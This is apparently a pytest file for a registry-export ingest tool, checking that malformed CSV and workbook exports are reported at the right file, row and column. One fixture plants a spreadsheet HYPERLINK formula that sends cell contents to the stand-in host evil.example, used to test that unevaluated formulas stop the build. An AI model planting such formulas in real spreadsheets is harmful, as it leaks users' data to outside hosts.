"""Invalid exports: each problem is reported at the file, row and column where a person would look for it, and the
database is never touched.

Each export is the hand-made fixture export (tests/fixture_registry.py) with one thing wrong, often saved the messy
way real exports are (semicolons, a title row, Spanish headers, a workbook), so that the row numbers are shown to
count as a spreadsheet does: the header's row counts, and so do a title row and a blank row above it.
In the fixture, initiative n (CO-01 is the first) is on row n + 1 under a plain header.
"""

from __future__ import annotations

import datetime as dt
import shutil
from collections.abc import Callable
from pathlib import Path

import openpyxl
import polars as pl
import pytest

from analytics.cli import main
from analytics.ingest.build import build
from tests.conftest import FIXTURE_TODAY
from tests.unit.test_build import digest

ROW_OF = {"CO-01": 2, "CO-02": 3, "CO-03": 4, "MX-01": 7, "CL-01": 10}
TITLE = "Registro IAPT; exportación de octubre\n\n"  # two rows above the header: the first initiative is on row 4


def tables(export: Path) -> dict[str, pl.DataFrame]:
    return {path.stem: pl.read_csv(path, infer_schema=False) for path in export.glob("*.csv")}


def set_cell(frame: pl.DataFrame, key: str, value: str, column: str, key_column: str = "id") -> pl.DataFrame:
    return frame.with_columns(pl.when(pl.col(key_column) == key).then(pl.lit(value)).otherwise(pl.col(column)).alias(column))


def write(folder: Path, frames: dict[str, pl.DataFrame], separator: str = ",", title: str = "") -> None:
    for name, frame in frames.items():
        (folder / f"{name}.csv").write_text(title + frame.write_csv(separator=separator), encoding="utf-8")


# Each case: what to do to the fixture export's tables (or files), and the problem expected.
def swapped_coordinates_in_a_semicolon_file_with_a_title(frames, folder):
    frames["initiatives"] = set_cell(set_cell(frames["initiatives"], "CL-01", "-70,3975", "latitude"),
                                     "CL-01", "-23,6509", "longitude")
    write(folder, frames, separator=";", title=TITLE)


def point_in_another_country(frames, folder):
    frames["initiatives"] = set_cell(set_cell(frames["initiatives"], "CO-01", "-12.0464", "latitude"),
                                     "CO-01", "-77.0428", "longitude")
    write(folder, frames)


def duplicate_firm_id(frames, folder):
    frames["firms"] = frames["firms"].with_columns(
        pl.when(pl.col("id") == "F03").then(pl.lit("F02")).otherwise(pl.col("id")).alias("id"))
    write(folder, frames)


def membership_of_a_missing_firm(frames, folder):
    frames["memberships"] = set_cell(frames["memberships"], "F05", "F99", "firm_id", key_column="firm_id")
    write(folder, frames)


def collaboration_with_a_missing_initiative_under_spanish_headers(frames, folder):
    frames["collaborations"] = set_cell(frames["collaborations"], "MX-02", "MX-99", "initiative_b",
                                        key_column="initiative_b").rename(
        {"initiative_a": "Iniciativa A", "initiative_b": "Iniciativa B", "programme": "Programa",
         "started_on": "Fecha de inicio"})
    write(folder, frames)


def founded_after_registration(frames, folder):
    frames["initiatives"] = set_cell(frames["initiatives"], "CO-02", "2030", "founded_year")
    write(folder, frames)


def registered_in_the_future_day_first(frames, folder):
    frames["initiatives"] = set_cell(frames["initiatives"], "MX-01", "01/01/2099", "registered_on")
    write(folder, frames, separator=";", title=TITLE)


def impossible_calendar_date(frames, folder):
    frames["initiatives"] = set_cell(frames["initiatives"], "CO-03", "31/02/2024", "registered_on")
    write(folder, frames)


def validated_before_registered_as_excel_serial(frames, folder):
    frames["initiatives"] = set_cell(frames["initiatives"], "CO-01", "44927", "validated_on")  # 2023-01-01
    write(folder, frames)


def year_typed_with_two_digits(frames, folder):
    frames["memberships"] = set_cell(frames["memberships"], "F12", "01/03/0023", "joined_on", key_column="firm_id")
    write(folder, frames)


def negative_member_count(frames, folder):
    frames["initiatives"] = set_cell(frames["initiatives"], "CL-01", "-4", "members_government")
    write(folder, frames)


def misspelt_type_in_spanish(frames, folder):
    frames["initiatives"] = set_cell(frames["initiatives"], "CO-02", "Iniciativa clustr", "type")
    write(folder, frames)


def misspelt_status(frames, folder):
    frames["initiatives"] = set_cell(frames["initiatives"], "MX-01", "validatd", "status")
    write(folder, frames, separator="\t")


def misspelt_sector_name_in_a_list(frames, folder):
    frames["initiatives"] = set_cell(frames["initiatives"], "CO-03", "agri;Turismo sostenble", "priority_sectors")
    write(folder, frames)


def latitude_not_a_number(frames, folder):
    frames["initiatives"] = set_cell(frames["initiatives"], "CO-02", "nan", "latitude")
    write(folder, frames)


def country_outside_the_region(frames, folder):
    frames["firms"] = set_cell(frames["firms"], "F04", "España", "country")
    write(folder, frames)


def region_of_another_country(frames, folder):
    frames["initiatives"] = set_cell(frames["initiatives"], "CO-03", "Jalisco", "region")
    write(folder, frames)


def same_link_listed_twice_the_other_way_round(frames, folder):
    reversed_link = frames["collaborations"].head(1).select(
        pl.col("initiative_b").alias("initiative_a"), pl.col("initiative_a").alias("initiative_b"), "programme", "started_on")
    frames["collaborations"] = pl.concat([frames["collaborations"], reversed_link])
    write(folder, frames)


def firm_listed_twice_in_one_initiative(frames, folder):
    frames["memberships"] = pl.concat([frames["memberships"], frames["memberships"].head(1)])
    write(folder, frames)


def unquoted_decimal_comma_in_a_comma_file(frames, folder):
    write(folder, frames)
    path = folder / "initiatives.csv"
    path.write_text(path.read_text(encoding="utf-8").replace(",6.2442,", ",6,2442,"), encoding="utf-8")


def undecodable_byte(frames, folder):
    write(folder, frames)
    path = folder / "firms.csv"
    data = path.read_bytes()
    path.write_bytes(data[:20] + b"\x81" + data[20:])  # in the header, before any accented letter


def utf8_file_with_a_windows_1252_line_pasted_in(frames, folder):
    write(folder, frames)
    path = folder / "firms.csv"
    data = path.read_bytes()
    path.write_bytes(data + "F41,Firma añadida,small,C,CO,Bogotá\n".encode("cp1252"))


def workbook_saved_under_a_csv_name(frames, folder):
    write(folder, frames)
    workbook = openpyxl.Workbook()
    workbook.save(folder / "memberships.csv")


def no_header_in_the_first_rows(frames, folder):
    write(folder, frames)
    (folder / "firms.csv").write_text("Listado de empresas\n" + frames["firms"].write_csv(include_header=False),
                                      encoding="utf-8")


def misspelt_required_header(frames, folder):
    frames["initiatives"] = frames["initiatives"].rename({"latitude": "Lattitude"})
    write(folder, frames)


def the_same_column_twice(frames, folder):
    frames["initiatives"] = frames["initiatives"].with_columns(pl.col("city").alias("Ciudad"))
    write(folder, frames)


def header_without_rows(frames, folder):
    frames["memberships"] = frames["memberships"].head(0)
    write(folder, frames)


def two_files_for_one_table(frames, folder):
    write(folder, frames)
    shutil.copy(folder / "initiatives.csv", folder / "iniciativas.csv")


def file_named_for_no_table(frames, folder):
    frames["firmas_2025"] = frames.pop("firms")
    write(folder, frames)


def damaged_workbook(frames, folder):
    (folder / "registro.xlsx").write_bytes(b"PK\x03\x04 this is not a workbook")


def bad_status_in_a_workbook_with_a_title_row(frames, folder):
    workbook = openpyxl.Workbook()
    workbook.remove(workbook.active)
    frames["initiatives"] = set_cell(frames["initiatives"], "CO-02", "borrador", "status")
    for name, frame in frames.items():
        sheet = workbook.create_sheet(name)
        sheet.append(["Registro IAPT"])
        sheet.append([])
        sheet.append(frame.columns)
        for row in frame.iter_rows():
            sheet.append(list(row))
    workbook.save(folder / "registro.xlsx")


def workbook(frames, folder, skip_rows: int = 0, title: bool = True):
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, frame in frames.items():
        sheet = book.create_sheet(name)
        for _ in range(skip_rows):
            sheet.append([])
        if title:
            sheet.append(["Registro IAPT"])
            sheet.append([])
        sheet.append(frame.columns)
        for row in frame.iter_rows():
            sheet.append(list(row))
    return book


def formula_with_no_saved_result(frames, folder):
    """A workbook written by a program: the formula is there, its result was never computed (openpyxl saves none)."""
    book = workbook(frames, folder)
    book["initiatives"]["B5"] = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    book.save(folder / "registro.xlsx")


def bad_status_in_a_workbook_below_empty_rows(frames, folder):
    """The fast reader starts at the first row holding a value: the rows above still count."""
    frames["initiatives"] = set_cell(frames["initiatives"], "CO-02", "borrador", "status")
    workbook(frames, folder, skip_rows=3, title=False).save(folder / "registro.xlsx")


CASES: list[tuple[Callable, str, int, str, str, str]] = [
    # what is wrong, file, row, column, the value reported, the reason (a part of it)
    (swapped_coordinates_in_a_semicolon_file_with_a_title, "initiatives.csv", 12, "latitude", "-70.3975, -23.6509",
     "look swapped: did you mean latitude -23.6509, longitude -70.3975?"),
    (point_in_another_country, "initiatives.csv", 2, "latitude", "-12.0464, -77.0428", "the point lies in PE, not in CO"),
    (duplicate_firm_id, "firms.csv", 4, "id", "F02", "duplicate id: already used at row 3"),
    (membership_of_a_missing_firm, "memberships.csv", 6, "firm_id", "F99", "no firm with this id"),
    # the column is named as the file wrote it, with the format's name after it
    (collaboration_with_a_missing_initiative_under_spanish_headers, "collaborations.csv", 5, "Iniciativa B (initiative_b)",
     "MX-99", "no initiative with this id"),
    (founded_after_registration, "initiatives.csv", 3, "founded_year", "2030", "founded after it was registered (2023-12-12)"),
    (registered_in_the_future_day_first, "initiatives.csv", 9, "registered_on", "01/01/2099", "date is in the future"),
    (impossible_calendar_date, "initiatives.csv", 4, "registered_on", "31/02/2024", "not a date"),
    (validated_before_registered_as_excel_serial, "initiatives.csv", 2, "validated_on", "44927",
     "validated before it was registered (2023-12-12)"),
    (year_typed_with_two_digits, "memberships.csv", 14, "joined_on", "01/03/0023", "before 1900"),
    (negative_member_count, "initiatives.csv", 10, "members_government", "-4", "must not be negative"),
    (misspelt_type_in_spanish, "initiatives.csv", 3, "type", "Iniciativa clustr", "did you mean 'cluster'?"),
    (misspelt_status, "initiatives.csv", 7, "status", "validatd", "did you mean 'validated'?"),
    (misspelt_sector_name_in_a_list, "initiatives.csv", 4, "priority_sectors", "agri;Turismo sostenble",
     "Turismo sostenble: not an allowed value; did you mean 'tourism'?"),
    (latitude_not_a_number, "initiatives.csv", 3, "latitude", "nan", "not a number"),
    (country_outside_the_region, "firms.csv", 5, "country", "España", "not a country of Latin America and the Caribbean"),
    (region_of_another_country, "initiatives.csv", 4, "region", "Jalisco", "not a first-level region of CO"),
    (same_link_listed_twice_the_other_way_round, "collaborations.csv", 6, "initiative_b", "CO-01",
     "this link is already listed, at row 2"),
    (firm_listed_twice_in_one_initiative, "memberships.csv", 44, "firm_id", "F01",
     "this firm is already listed in this initiative, at row 2"),
    (unquoted_decimal_comma_in_a_comma_file, "initiatives.csv", 3, "", "Hand-made test fixture",
     "22 cells but the header names 21 columns: a stray comma, or a decimal comma without quotes?"),
    (undecodable_byte, "firms.csv", 0, "", "byte 0x81 at offset 20", "cannot be decoded as UTF-8 or Windows-1252"),
    (utf8_file_with_a_windows_1252_line_pasted_in, "firms.csv", 0, "", "byte 0xf1 at offset", "mixes two encodings"),
    (workbook_saved_under_a_csv_name, "memberships.csv", 0, "", "", "is a workbook or a zip archive"),
    (no_header_in_the_first_rows, "firms.csv", 1, "", "Listado de empresas", "no header row"),
    (misspelt_required_header, "initiatives.csv", 1, "latitude", "Lattitude", "required column missing"),
    (the_same_column_twice, "initiatives.csv", 1, "city", "Ciudad", "column appears twice (columns 7 and 22)"),
    (header_without_rows, "memberships.csv", 1, "", "", "the header is there but no rows under it"),
    (two_files_for_one_table, "initiatives.csv", 0, "", "", "a second file for the 'initiatives' table (the first is iniciativas.csv)"),
    (file_named_for_no_table, "firms.csv", 0, "", "", "no 'firms' file or sheet (not recognised: firmas_2025.csv)"),
    (damaged_workbook, "registro.xlsx", 0, "", "", "cannot be opened as an .xlsx workbook"),
    (bad_status_in_a_workbook_with_a_title_row, "registro.xlsx[initiatives]", 5, "status", "borrador", "not an allowed value"),
    (bad_status_in_a_workbook_below_empty_rows, "registro.xlsx[initiatives]", 6, "status", "borrador", "not an allowed value"),
]


def table_of(file: str) -> str:
    """initiatives.csv and registro.xlsx[initiatives] are both the initiatives table."""
    return file.split("[")[1].rstrip("]") if "[" in file else file.split(".")[0]


@pytest.mark.parametrize(("make", "file", "row", "column", "value", "reason"), CASES, ids=[c[0].__name__ for c in CASES])
def test_problem_is_reported_where_it_is(make, file, row, column, value, reason, fixture_export, fixture_db, tmp_path):
    export = tmp_path / "export"
    export.mkdir()
    make(tables(fixture_export), export)
    live = tmp_path / "live.duckdb"
    shutil.copy(fixture_db, live)
    before = digest(live)
    for skip_invalid in (False, True):
        result = build(export, live, today=FIXTURE_TODAY, skip_invalid=skip_invalid)
        found = [p for p in result.problems if (p.file, p.row, p.column) == (file, row, column)
                 and value in p.value and reason in p.reason]
        assert found, "\n".join(map(str, result.problems))
        if not skip_invalid:
            assert not result.ok and digest(live) == before
            assert result.report_path.read_text(encoding="utf-8").count("\n") == len(result.problems) + 1
        elif row <= 1:
            # a problem with a whole file stops even --skip-invalid: its rows could not be counted
            assert not result.ok and digest(live) == before
        else:
            # with --skip-invalid that row, and only the rows that need it, are left out
            assert result.ok and result.rows_rejected[table_of(file)] >= 1


def test_every_problem_of_every_file_is_listed(fixture_export, tmp_path, capsys):
    frames = tables(fixture_export)
    frames["initiatives"] = set_cell(set_cell(frames["initiatives"], "CO-02", "clustr", "type"),
                                     "CL-01", "-4", "members_government")
    frames["firms"] = set_cell(frames["firms"], "F04", "huge", "size_class")
    frames["memberships"] = set_cell(frames["memberships"], "F05", "F99", "firm_id", key_column="firm_id")
    export = tmp_path / "export"
    export.mkdir()
    write(export, frames, separator=";", title=TITLE)
    code = main(["build", str(export), "--db", str(tmp_path / "iapt.duckdb")])
    err = capsys.readouterr().err
    assert code == 1 and not (tmp_path / "iapt.duckdb").exists()
    for where in ("initiatives.csv:5:type: clustr", "initiatives.csv:12:members_government: -4", "firms.csv:7:size_class: huge",
                  "memberships.csv:8:firm_id: F99"):
        assert where in err
    assert "4 problem(s)" in err


def test_nothing_stops_at_a_damaged_file_before_the_others_are_checked(fixture_export, tmp_path):
    """An undecodable firms file is reported, and the initiatives are still checked, but memberships are not each
    reported as pointing at a missing firm: that would bury the one real problem under thousands."""
    frames = tables(fixture_export)
    frames["initiatives"] = set_cell(frames["initiatives"], "CO-02", "clustr", "type")
    export = tmp_path / "export"
    export.mkdir()
    write(export, frames)
    (export / "firms.csv").write_bytes(b"id,name\n\x81\x81\n")
    problems = build(export, tmp_path / "iapt.duckdb", today=FIXTURE_TODAY).problems
    assert [(p.file, p.row, p.column) for p in problems] == [("firms.csv", 0, ""), ("initiatives.csv", 3, "type")]


def test_the_build_date_decides_what_is_in_the_future(fixture_export, tmp_path):
    assert build(fixture_export, tmp_path / "a.duckdb", today=FIXTURE_TODAY).ok
    early = build(fixture_export, tmp_path / "b.duckdb", today=dt.date(2025, 9, 1))
    assert {(p.row, p.column) for p in early.problems} == {(13, "registered_on")}  # CL-04 registered on 2025-09-30


def test_a_file_too_large_is_refused_before_it_is_read(fixture_export, tmp_path, monkeypatch):
    from analytics.ingest import reader

    export = tmp_path / "export"
    shutil.copytree(fixture_export, export)
    largest = max(export.glob("*.csv"), key=lambda path: path.stat().st_size)
    limit = largest.stat().st_size - 1
    monkeypatch.setattr(reader, "MAX_FILE_BYTES", limit)
    read_bytes = Path.read_bytes

    def refusing(path: Path) -> bytes:
        assert path.stat().st_size <= limit, f"{path.name} was read whole"
        return read_bytes(path)

    monkeypatch.setattr(Path, "read_bytes", refusing)
    problems = reader.read_export(export).problems
    assert [(p.file, p.reason) for p in problems] == [(largest.name, f"the file is larger than {limit:,} bytes, the most a build reads")]


def test_a_formula_with_no_saved_result_stops_the_build_even_when_skipping(fixture_export, fixture_db, tmp_path):
    """Its value is unknown, not empty: loading it as 0 or as a blank would change the registry silently."""
    export = tmp_path / "export"
    export.mkdir()
    formula_with_no_saved_result(tables(fixture_export), export)
    live = tmp_path / "live.duckdb"
    shutil.copy(fixture_db, live)
    before = digest(live)
    for skip_invalid in (False, True):
        result = build(export, live, today=FIXTURE_TODAY, skip_invalid=skip_invalid)
        assert not result.ok and digest(live) == before
        [problem] = [p for p in result.problems if "formula with no saved result" in p.reason]
        assert (problem.file, problem.row, problem.column) == ("registro.xlsx[initiatives]", 5, "B")
        assert problem.value.startswith('=HYPERLINK("http://evil.example/?"')
